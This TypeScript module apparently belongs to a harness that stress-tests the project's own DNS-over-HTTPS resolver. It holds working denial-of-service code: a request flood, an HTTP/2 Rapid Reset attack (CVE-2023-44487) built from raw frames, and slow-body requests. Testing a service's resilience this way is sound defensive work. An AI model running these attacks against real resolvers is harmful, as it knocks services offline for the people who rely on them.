/** Attacks by DNS over HTTPS. */
import { type ClientHttp2Session, type ClientHttp2Stream, connect } from 'node:http2';
import { connect as connectTls } from 'node:tls';
import { connect as connectTcp } from 'node:net';
import { encodeQuery } from '../../deployment/dns-message.js';
import { ATTACKER, POPULAR_ZONE, SERVER } from '../shared/target.js';
import { type Attack, type AttackContext, pace } from './attack.js';
import { frame, openSession, POST } from './http2-frames.js';

const SESSIONS = 20;
const REQUESTS_PER_SECOND = 1_500;
/** Fewer than `CLIENT_TLS_HANDSHAKE_RATE`. */
const RESET_CONNECTIONS_PER_SECOND = 40;
/** As many as come in few reads. */
const RESETS = 600;
const [HEADERS_FRAME, RST_STREAM, END_HEADERS] = [1, 3, 4];
const CANCEL = Buffer.from([0, 0, 0, 8]);
const SLOW_REQUESTS_PER_SECOND = 300;
const SLOW_BYTE_MS = 400;
const HEADERS = { ':path': '/dns-query', 'content-type': 'application/dns-message' };

/** Many requests at once over many connections. */
export const requests: Attack = (context) =>
  overSessions(context, REQUESTS_PER_SECOND, (session, n) => {
    const query = encodeQuery(0, `n${n % 50}.${POPULAR_ZONE}`).toString('base64url');
    const stream = session.request({ ':path': `/dns-query?dns=${query}` });
    stream.on('response', ({ ':status': status }) => context.counts.add(`status ${status ?? 0}`));
    return stream;
  });

/** Requests that are reset at once (CVE-2023-44487), over connections that the resolver closes for it. */
export function resetsFrom(sources: readonly string[]): Attack {
  return async (context) => {
    const requests = Buffer.concat(
      Array.from({ length: RESETS }, (_, i) => [
        frame(HEADERS_FRAME, END_HEADERS, 1 + 2 * i, POST),
        frame(RST_STREAM, 0, 1 + 2 * i, CANCEL),
      ]).flat(),
    );
    await pace(context, RESET_CONNECTIONS_PER_SECOND, (n) => {
      const session = openSession(context, sources[n % sources.length] ?? SERVER, () => undefined);
      session.once('secureConnect', () => context.counts.add('requests', RESETS));
      session.write(requests);
    });
  };
}

export const resets = resetsFrom([ATTACKER]);

/** Bodies of which a byte comes now and then. */
export const slowBodies: Attack = (context) =>
  overSessions(context, SLOW_REQUESTS_PER_SECOND, (session) => {
    const stream = session.request({ ...HEADERS, ':method': 'POST', 'content-length': 4_000 });
    stream.on('response', ({ ':status': status }) => context.counts.add(`status ${status ?? 0}`));
    const timer = setInterval(() => {
      if (context.signal.aborted || stream.destroyed) return clearInterval(timer);
      stream.write('x');
    }, SLOW_BYTE_MS);
    return stream;
  });

/** Makes requests over connections in turn. Those that the resolver closes are opened again. */
async function overSessions(
  context: AttackContext,
  perSecond: number,
  request: (session: ClientHttp2Session, n: number) => ClientHttp2Stream,
): Promise<void> {
  const { counts } = context;
  const sessions: (ClientHttp2Session | null)[] = Array.from({ length: SESSIONS }, () => null);
  await pace(context, perSecond, (n) => {
    const at = n % SESSIONS;
    const session = (sessions[at] ??= open(context, () => (sessions[at] = null)));
    if (session.closed || session.destroyed) return;
    counts.add('requests');
    request(session, n)
      .on('error', () => counts.add('failed'))
      .resume();
  });
}

function open({ target, counts }: AttackContext, onClose: () => void): ClientHttp2Session {
  counts.add('connections');
  const session = connect(`https://${SERVER}`, {
    createConnection: () =>
      connectTls({
        socket: connectTcp({ host: SERVER, port: target.httpsPort, localAddress: ATTACKER }),
        rejectUnauthorized: false,
        ALPNProtocols: ['h2'],
      }),
  });
  session.on('error', () => session.destroy());
  session.on('close', () => {
    counts.add('connections closed');
    onClose();
  });
  session.on('goaway', onClose);
  return session;
}
